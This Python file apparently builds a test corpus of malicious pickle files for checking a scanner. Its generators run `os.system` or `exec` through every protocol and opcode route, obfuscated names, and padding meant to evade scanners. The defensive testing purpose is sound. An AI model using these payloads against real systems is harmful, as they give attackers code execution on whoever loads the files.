"""Pickles that reach a function by every road the opcodes leave open.

What is called in the end is nearly always `os.system`; what differs is how it is named, built and called.
"""

import codecs
import struct
from collections.abc import Callable

from tests.corpora.models.attacks import opcodes as op
from tests.corpora.models.attacks.opcodes import (
    Code,
    attribute,
    call,
    get,
    method,
    named,
    put,
    stacked,
    stream,
)
from tests.corpora.models.attacks.payload import CODE, IMPORTED, SHELL, code_object
from tests.corpora.models.attacks.registry import Made, Maker, attack

_SYSTEM = named("os", "system")


def _route(id: str, says: str, suffix: str = ".pkl", proof: str = "pickle") -> Callable[[Maker], Maker]:
    return attack(f"pickle-{id}", acts="load", family="pickle", says=says, suffix=suffix, proof=proof)


# ── By protocol ──────────────────────────────────────────────────────────────────────────────────────────────────


@_route("protocol-0", "protocol 0, all text: GLOBAL and a quoted STRING")
def _() -> Made:
    return b"cos\nsystem\n(S'" + SHELL.encode() + b"'\ntR."


@_route("protocol-0-escapes", "protocol 0, names and argument spelt in escapes")
def _() -> Made:
    escaped = "".join(f"\\x{ord(c):02x}" for c in SHELL)
    return b"cos\nsystem\n(S'" + escaped.encode() + b"'\ntR."


@_route("protocol-0-unicode", "protocol 0, the argument in \\u escapes of a UNICODE line")
def _() -> Made:
    escaped = "".join(f"\\u{ord(c):04x}" for c in SHELL)
    return b"cos\nsystem\n(V" + escaped.encode() + b"\ntR."


@_route("protocol-1", "protocol 1, without a header", suffix=".dat")
def _() -> Made:
    return b"cposix\nsystem\nq\x00(U" + bytes([len(SHELL)]) + SHELL.encode() + b"q\x01tq\x02Rq\x03."


@_route("protocol-2", "protocol 2 as `pickle.dumps` writes it")
def _() -> Made:
    return stream(_SYSTEM, put(0), op.push((SHELL,)), put(1), op.REDUCE, put(2), version=2)


@_route("protocol-3", "protocol 3 with BINUNICODE", suffix=".model")
def _() -> Made:
    argument = b"X" + struct.pack("<I", len(SHELL)) + SHELL.encode()
    return stream(_SYSTEM, argument, op.TUPLE1, op.REDUCE, version=3)


@_route("protocol-4", "protocol 4 as `pickle.dumps` writes it: framed, memoised, STACK_GLOBAL")
def _() -> Made:
    body = op.text("posix") + op.MEMOIZE + op.text("system") + op.MEMOIZE + op.STACK_GLOBAL + op.MEMOIZE
    return op.framed(body + op.text(SHELL) + op.MEMOIZE + op.TUPLE1 + op.MEMOIZE + op.REDUCE + op.MEMOIZE)


@_route("protocol-5", "protocol 5, the command in a BYTEARRAY8 that is decoded first", suffix=".bin")
def _() -> Made:
    code = CODE.encode()
    array = Code(b"\x96" + struct.pack("<Q", len(code)) + code)
    return stream(call("builtins:exec", call("builtins:bytes", array)), version=5)


@_route("protocol-99", "a header that claims an unknown protocol after the deed is done", proof="pickle")
def _() -> Made:
    return op.proto(2) + call(_SYSTEM, SHELL) + op.proto(99) + op.STOP


@_route("protocol-mid-stream", "a second PROTO in the middle, where parsers of headers stop looking")
def _() -> Made:
    return op.proto(4) + _SYSTEM + op.proto(2) + op.push((SHELL,)) + op.proto(0) + op.REDUCE + op.STOP


# ── By opcode ────────────────────────────────────────────────────────────────────────────────────────────────────


@_route("inst", "INST, which names and calls in one opcode")
def _() -> Made:
    return b"(S'" + SHELL.encode() + b"'\nios\nsystem\n."


@_route("obj", "OBJ, which calls what lies above the mark")
def _() -> Made:
    return stream(op.MARK, _SYSTEM, op.text(SHELL), b"o")


@_route("newobj", "NEWOBJ alone: `bytes` made from a `map` over the function", suffix=".joblib")
def _() -> Made:
    lazy = named("builtins", "map") + op.push((_SYSTEM, [SHELL])) + op.NEWOBJ
    return stream(named("builtins", "bytes"), lazy, op.TUPLE1, op.NEWOBJ)


@_route("newobj-ex", "NEWOBJ_EX alone: a `frozenset` made from a `map` over the function")
def _() -> Made:
    lazy = named("builtins", "map") + op.push((_SYSTEM, [SHELL])) + op.EMPTY_DICT + op.NEWOBJ_EX
    return stream(named("builtins", "frozenset"), lazy, op.TUPLE1, op.EMPTY_DICT, op.NEWOBJ_EX)


@_route("build-setstate", "BUILD twice: first plants `__setstate__` in the instance, then calls it")
def _() -> Made:
    instance = named("argparse", "Namespace") + op.EMPTY_TUPLE + op.NEWOBJ
    return stream(instance, op.push({"__setstate__": _SYSTEM}), op.BUILD, op.text(SHELL), op.BUILD)


@_route(
    "build-class-slot", "BUILD with slot state sets `__setstate__` on a class, BUILD on its instance calls it"
)
def _() -> Made:
    kind = named("argparse", "Namespace")
    planted = kind + op.push((None, {"__setstate__": _SYSTEM})) + op.BUILD
    # A builtin on a class is no method: it is called with the state alone.
    return stream(planted, op.POP, kind, op.EMPTY_TUPLE, op.NEWOBJ, op.text(SHELL), op.BUILD)


@_route(
    "build-module", "BUILD on a module replaces a harmless function, which is then called by its own name"
)
def _() -> Made:
    module = call("importlib:import_module", "colorsys")
    planted = module + op.push({"rgb_to_hsv": _SYSTEM}) + op.BUILD + op.POP
    return stream(planted, call("colorsys:rgb_to_hsv", SHELL))


@_route(
    "build-copyreg",
    "BUILD through `sys.modules` replaces `copyreg._reconstructor`, the name every pickle uses",
)
def _() -> Made:
    module = call(stacked("sys", "modules.get"), "copyreg")
    planted = named("copyreg", "_reconstructor") + op.POP + module + op.push({"_reconstructor": _SYSTEM})
    return stream(planted, op.BUILD, op.POP, call("copyreg:_reconstructor", SHELL))


@_route("extension-1", "EXT1 after registering the function as an extension")
def _() -> Made:
    added = call("copyreg:add_extension", "os", "system", 1)
    return stream(added, op.POP, b"\x82\x01", op.push((SHELL,)), op.REDUCE)


@_route("extension-2", "EXT2 after registering the function as an extension")
def _() -> Made:
    added = call("copyreg:add_extension", "os", "system", 0x1234)
    return stream(added, op.POP, b"\x83" + struct.pack("<H", 0x1234), op.push((SHELL,)), op.REDUCE)


@_route("extension-4", "EXT4 after registering the function as an extension")
def _() -> Made:
    added = call("copyreg:add_extension", "os", "system", 0x1234567)
    return stream(added, op.POP, b"\x84" + struct.pack("<I", 0x1234567), op.push((SHELL,)), op.REDUCE)


@_route("persistent-id", "the call that computes a persistent id; looking that id up fails afterwards")
def _() -> Made:
    return stream(call(_SYSTEM, SHELL), op.BINPERSID)


@_route("setitem-key", "the call that computes a dictionary's key, amid plain data")
def _() -> Made:
    return stream(
        op.EMPTY_DICT, op.text("weights"), op.push([0.5, 0.25]), op.SETITEM, call(_SYSTEM, SHELL), b"K\1s"
    )


@_route("deep-inside", "the call at the bottom of a tree of lists and dictionaries")
def _() -> Made:
    value: object = call(_SYSTEM, SHELL)
    for depth in range(40):
        value = [depth, value] if depth % 2 else {"layer": value}
    return stream(op.push(value))  # type: ignore[arg-type]


# ── By name ──────────────────────────────────────────────────────────────────────────────────────────────────────


@_route("stack-global", "STACK_GLOBAL with both names plain")
def _() -> Made:
    return stream(call(stacked("os", "system"), SHELL))


@_route(
    "stack-global-memo", "STACK_GLOBAL with names put in the memo long before and fetched in another order"
)
def _() -> Made:
    kept = op.text("system") + put(7) + op.POP + op.text("os") + put(300) + op.POP
    return stream(kept, stacked(get(300), get(7)), op.push((SHELL,)), op.REDUCE)


@_route(
    "stack-global-memo-overwritten",
    "a memo slot holds a harmless name first and is overwritten before its use",
)
def _() -> Made:
    kept = op.text("OrderedDict") + put(0) + op.POP + op.text("system") + put(0) + op.POP
    return stream(kept, stacked("os", get(0)), op.push((SHELL,)), op.REDUCE)


@_route("stack-global-dup", "STACK_GLOBAL on a stack arranged by DUP and POP")
def _() -> Made:
    dance = (
        op.text("posix")
        + op.DUP
        + op.POP
        + op.text("collections")
        + op.POP
        + op.text("system")
        + op.DUP
        + op.POP
    )
    return stream(dance, op.STACK_GLOBAL, op.push((SHELL,)), op.REDUCE)


@_route("stack-global-pop-mark", "names left over after POP_MARK threw a decoy away")
def _() -> Made:
    decoy = op.MARK + op.text("collections") + op.text("OrderedDict") + op.POP_MARK
    return stream(op.text("os"), decoy, op.text("system"), op.STACK_GLOBAL, op.push((SHELL,)), op.REDUCE)


@_route("stack-global-string", "names as quoted STRING lines, which STACK_GLOBAL takes as well")
def _() -> Made:
    return stream(b"S'\\x6f\\x73'\n", b"S'sys\\x74em'\n", op.STACK_GLOBAL, op.push((SHELL,)), op.REDUCE)


@_route("stack-global-unicode-line", "names as UNICODE lines with \\u escapes")
def _() -> Made:
    return stream(b"V\\u006f\\u0073\n", b"V\\u0073ystem\n", op.STACK_GLOBAL, op.push((SHELL,)), op.REDUCE)


@_route("stack-global-long-strings", "names by BINUNICODE8, whose length takes eight bytes")
def _() -> Made:
    def long(value: str) -> Code:
        return Code(b"\x8d" + struct.pack("<Q", len(value)) + value.encode())

    return stream(call(stacked(long("os"), long("system")), long(SHELL)))


@_route("stack-global-dotted", "a dotted name walks from a harmless module to the one it imported")
def _() -> Made:
    return stream(call(stacked("posixpath", "os.system"), SHELL))


@_route(
    "stack-global-dotted-library",
    "a dotted name through a module of a machine-learning pickle's usual company",
)
def _() -> Made:
    return stream(call(stacked("random", "_os.system"), SHELL))


@_route("stack-global-dotted-modules", "a dotted name up to `sys.modules.get` fetches the module")
def _() -> Made:
    module = call(stacked("random", "_os.sys.modules.get"), "os")
    return stream(call(call("operator:methodcaller", "system", SHELL), module))


@_route("computed-join", "the module's name is joined from letters")
def _() -> Made:
    name = call(stacked("builtins", "str.join"), "", ["o", "s"])
    return stream(call(stacked(name, "system"), SHELL))


@_route("computed-add", "the function's name is added from two halves")
def _() -> Made:
    return stream(call(stacked("os", call("operator:add", "sys", "tem")), SHELL))


@_route("computed-decode", "the module's name is decoded from bytes")
def _() -> Made:
    return stream(call(stacked(call("_codecs:decode", b"os", "ascii"), "system"), SHELL))


@_route("computed-rot13", "names written backwards in the alphabet (rot13)")
def _() -> Made:
    def hidden(value: str) -> Code:
        return call("codecs:decode", codecs.encode(value, "rot13"), "rot13")

    return stream(call(stacked(hidden("os"), hidden("system")), SHELL))


@_route("computed-base64", "the program in base64, decoded before it is run")
def _() -> Made:
    import base64

    return stream(call("builtins:exec", call("base64:b64decode", base64.b64encode(CODE.encode()))))


@_route(
    "computed-encode", "the program as text encoded by `_codecs.encode`, as protocol 2 writes byte strings"
)
def _() -> Made:
    return stream(call("builtins:exec", call("_codecs:encode", CODE, "latin1")), version=2)


@_route("computed-slice", "the function's name is cut out of a longer text")
def _() -> Made:
    name = call("operator:getitem", "ecosystems", call("builtins:slice", 3, 9))
    return stream(call(stacked("os", name), SHELL))


@_route("computed-format", "the module's name comes out of a format string")
def _() -> Made:
    return stream(call(stacked(call(stacked("builtins", "str.format"), "{1}{0}", "s", "o"), "system"), SHELL))


@_route("computed-replace", "the function's name after a replacement")
def _() -> Made:
    return stream(call(stacked("os", call(stacked("builtins", "str.replace"), "syXtem", "X", "s")), SHELL))


@_route("after-many-opcodes", "GLOBAL after a long row of NONE and POP, beyond a scanner's first page")
def _() -> Made:
    return stream((op.NONE + op.POP) * 40_000, call(_SYSTEM, SHELL))


@_route("after-long-push", "a megabyte of bytes pushed first, so that the call lies beyond any fixed window")
def _() -> Made:
    padding = b"B" + struct.pack("<I", 1_200_000) + b"\0" * 1_200_000
    return stream(padding, op.POP, call(_SYSTEM, SHELL))


@_route("opcode-lookalike-bytes", "a byte string full of STOP opcodes before the call")
def _() -> Made:
    return stream(op.raw(b"." * 200), op.POP, call(_SYSTEM, SHELL))


@_route("bare-global-import", "no call at all: naming a module imports it, and importing it opens a browser")
def _() -> Made:
    return stream(stacked("antigravity", "webbrowser"))


@_route("python-two-names", "names of Python 2, which the unpickler translates: `__builtin__.eval`")
def _() -> Made:
    return stream(call("__builtin__:eval", IMPORTED), version=2)


@_route("python-two-commands", "`commands.getoutput` of Python 2, translated to `subprocess`")
def _() -> Made:
    return stream(call("commands:getoutput", SHELL), version=2)


@attack(
    "pickle-module-beside",
    acts="load",
    family="pickle",
    says="names a module that is shipped in the same folder, which runs when it is imported",
    proof="folder-pickle",
)
def _() -> Made:
    return {
        "model.pkl": stream(stacked("layers", "Layer")),
        "layers.py": f"{CODE}\nclass Layer: ...\n".encode(),
    }


# ── By way of other functions ────────────────────────────────────────────────────────────────────────────────────


@_route("getattr", "`getattr` on an imported module")
def _() -> Made:
    return stream(call(attribute(call("builtins:__import__", "os"), "system"), SHELL))


@_route("getattr-chain", "`getattr` from a method to its globals, and on to the builtins in there")
def _() -> Made:
    scope = attribute(attribute(named("argparse", "Namespace"), "__eq__"), "__globals__")
    builtins = call("operator:getitem", scope, "__builtins__")
    return stream(call(call("operator:getitem", builtins, "eval"), IMPORTED))


@_route("getattribute", "`object.__getattribute__` in place of `getattr`")
def _() -> Made:
    module = call("importlib:import_module", "os")
    return stream(call(method("builtins:object.__getattribute__", module, "system"), SHELL))


@_route("attrgetter", "`operator.attrgetter`")
def _() -> Made:
    got = call(call("operator:attrgetter", "system"), call("importlib:import_module", "os"))
    return stream(call(got, SHELL))


@_route("methodcaller", "`operator.methodcaller`, which names, fetches and calls at once")
def _() -> Made:
    return stream(call(call("operator:methodcaller", "system", SHELL), call("importlib:import_module", "os")))


@_route("itemgetter", "`operator.itemgetter` on a module's dictionary")
def _() -> Made:
    got = call(call("operator:itemgetter", "system"), stacked("os", "__dict__"))
    return stream(call(got, SHELL))


@_route("operator-call", "`operator.call`", suffix=".p")
def _() -> Made:
    return stream(call("operator:call", _SYSTEM, SHELL))


@_route("partial", "`functools.partial`, called without arguments")
def _() -> Made:
    return stream(call(call("functools:partial", _SYSTEM, SHELL)))


@_route("partial-state", "a `functools.partial` of a harmless function whose state is replaced by BUILD")
def _() -> Made:
    partial = (
        call("functools:partial", named("builtins", "len"))
        + op.push((_SYSTEM, (SHELL,), {}, None))
        + op.BUILD
    )
    return stream(call(Code(partial)))


@_route("reduce-function", "`functools.reduce` over `getattr`")
def _() -> Made:
    path = call(
        "functools:reduce", named("builtins", "getattr"), ["os", "system"], named("posixpath", "genericpath")
    )
    return stream(call(path, SHELL))


@_route("map-list", "a `map` over the function, drained by `list`")
def _() -> Made:
    return stream(call("builtins:list", call("builtins:map", _SYSTEM, [SHELL])))


@_route("filter-any", "a `filter` by the function, drained by `any`")
def _() -> Made:
    return stream(call("builtins:any", call("builtins:filter", _SYSTEM, [SHELL])))


@_route("starmap-deque", "`itertools.starmap`, drained by a `deque`")
def _() -> Made:
    return stream(call("collections:deque", call("itertools:starmap", _SYSTEM, [(SHELL,)])))


@_route("map-extend", "a `map` drained by a `deque`'s `extend`")
def _() -> Made:
    lazy = call("builtins:map", _SYSTEM, [SHELL])
    return stream(method("collections:deque.extend", call("collections:deque"), lazy))


@_route("defaultdict", "a `defaultdict` whose factory is the call, asked for a missing key")
def _() -> Made:
    kept = call("collections:defaultdict", call("functools:partial", _SYSTEM, SHELL))
    return stream(call("operator:getitem", kept, "weights"))


@_route("iter-sentinel", "`iter` of a callable, advanced by `next`")
def _() -> Made:
    return stream(call("builtins:next", call("builtins:iter", call("functools:partial", _SYSTEM, SHELL), 1)))


@_route("sorted-key", "`max` with the function as `key`, by a partial that carries the keyword")
def _() -> Made:
    largest = named("builtins", "max")
    keyed = call("functools:partial", largest) + op.push((largest, (), {"key": _SYSTEM}, None)) + op.BUILD
    return stream(call(Code(keyed), [SHELL, ":"]))


@_route("method-type", "`types.MethodType` binds the argument, the method is called empty")
def _() -> Made:
    return stream(call(call("types:MethodType", _SYSTEM, SHELL)))


@_route("dynamic-class", "`type` makes a class whose `__setstate__` is the function; BUILD calls it")
def _() -> Made:
    kind = call("builtins:type", "Weights", (), {"__setstate__": _SYSTEM})
    return stream(call(kind), op.text(SHELL), op.BUILD)


@_route("dynamic-class-append", "a class whose `append` is the function; APPEND calls it")
def _() -> Made:
    kind = call("builtins:type", "Layers", (), {"append": _SYSTEM})
    return stream(call(kind), op.text(SHELL), op.APPEND)


@_route("dynamic-class-setitem", "a class whose `__setitem__` is `exec`; SETITEM hands it source and scope")
def _() -> Made:
    kind = call("builtins:type", "Table", (), {"__setitem__": named("builtins", "exec")})
    return stream(call(kind), op.text(CODE), op.EMPTY_DICT, op.SETITEM)


@_route("dynamic-class-hash", "a class whose `__hash__` is the call, used as a dictionary's key")
def _() -> Made:
    kind = call("builtins:type", "Key", (), {"__hash__": call("functools:partial", _SYSTEM, SHELL)})
    return stream(op.EMPTY_DICT, call(kind), op.NONE, op.SETITEM)


@_route("dynamic-class-add", "a class whose `add` is the function; ADDITEMS calls it")
def _() -> Made:
    kind = call("builtins:type", "Names", (), {"add": _SYSTEM})
    return stream(call(kind), op.MARK, op.text(SHELL), op.ADDITEMS)


@_route(
    "copyreg-newobj",
    "`copyreg.__newobj__` and a `map`, the names that `object.__reduce_ex__` leaves in pickles",
)
def _() -> Made:
    lazy = call("copyreg:__newobj__", named("builtins", "map"), _SYSTEM, [SHELL])
    return stream(call("copyreg:__newobj__", named("builtins", "tuple"), lazy), version=2)


@_route("reconstructor", "`copyreg._reconstructor` with a base whose `__new__` drains a `map`")
def _() -> Made:
    lazy = call("builtins:map", _SYSTEM, [SHELL])
    return stream(
        call("copyreg:_reconstructor", named("builtins", "list"), named("builtins", "list"), lazy), version=2
    )


@_route("atexit", "`atexit.register`: acts when the process ends")
def _() -> Made:
    return stream(call("atexit:register", _SYSTEM, SHELL))


@_route("finalizer", "`weakref.finalize` on an object that is dropped at once")
def _() -> Made:
    kept = call("weakref:finalize", call("argparse:Namespace"), _SYSTEM, SHELL)
    return stream(kept)


@_route("thread", "the body of a timer's thread, run by its dotted name", suffix=".sav")
def _() -> Made:
    return stream(method("threading:Timer.run", call("threading:Timer", 0, _SYSTEM, [SHELL])))


@_route("executor", "a thread pool that is given the call")
def _() -> Made:
    pool = call("concurrent.futures:ThreadPoolExecutor", 1) + put(0) + op.POP
    given = method("concurrent.futures:ThreadPoolExecutor.submit", get(0), _SYSTEM, SHELL)
    return stream(pool, given, method("concurrent.futures:ThreadPoolExecutor.shutdown", get(0)))


@_route("exit-stack", "`contextlib.ExitStack` with a callback, closed")
def _() -> Made:
    kept = call("contextlib:ExitStack") + put(0)
    called = method("contextlib:ExitStack.callback", get(0), _SYSTEM, SHELL)
    return stream(kept, called, op.POP, method("contextlib:ExitStack.close", get(0)))


@_route("nested-loads", "a second pickle in a byte string, given to `pickle.loads`")
def _() -> Made:
    return stream(call("pickle:loads", stream(call(_SYSTEM, SHELL))))


@_route("nested-loads-c", "a second pickle given to `_pickle.loads`, three deep")
def _() -> Made:
    inner = stream(call(_SYSTEM, SHELL))
    for _depth in range(3):
        inner = stream(call("_pickle:loads", inner))
    return inner


@_route("nested-unpickler", "a second pickle given to an `Unpickler` that is built on the spot")
def _() -> Made:
    inner = call("io:BytesIO", stream(call(_SYSTEM, SHELL)))
    return stream(method("pickle:_Unpickler.load", call("pickle:_Unpickler", inner)))


@_route("find-class", "`Unpickler.find_class` fetches the function")
def _() -> Made:
    unpickler = call("pickle:Unpickler", call("io:BytesIO", b""))
    return stream(call(method("pickle:Unpickler.find_class", unpickler, "os", "system"), SHELL))


@_route("nested-compressed", "a second pickle, compressed, decompressed and loaded on the way")
def _() -> Made:
    import zlib

    inner = zlib.compress(stream(call(_SYSTEM, SHELL)))
    return stream(call("pickle:loads", call("zlib:decompress", inner)))


@_route("function-from-marshal", "`types.FunctionType` around marshalled bytecode")
def _() -> Made:
    code = call("marshal:loads", code_object())
    return stream(call(call("types:FunctionType", code, {"__builtins__": stacked("builtins", "__dict__")})))


@_route("exec-marshal", "`exec` of marshalled bytecode")
def _() -> Made:
    return stream(call("builtins:exec", call("marshal:loads", code_object())))


@_route("exec-compile", "`exec` of what `compile` made")
def _() -> Made:
    return stream(call("builtins:exec", call("builtins:compile", CODE, "<weights>", "exec")))


@_route("code-type", "`types.CodeType` puts bytecode together from its parts")
def _() -> Made:
    code = compile(CODE, "<weights>", "exec")
    parts: tuple[object, ...] = (0, 0, 0, 0, code.co_stacksize, code.co_flags, code.co_code)
    parts += (
        code.co_consts,
        code.co_names,
        (),
        "w",
        "w",
        "w",
        1,
        code.co_linetable,
        code.co_exceptiontable,
        (),
        (),
    )
    made = call("types:CodeType", *parts)  # type: ignore[arg-type]
    return stream(call(call("types:FunctionType", made, {"__builtins__": stacked("builtins", "__dict__")})))
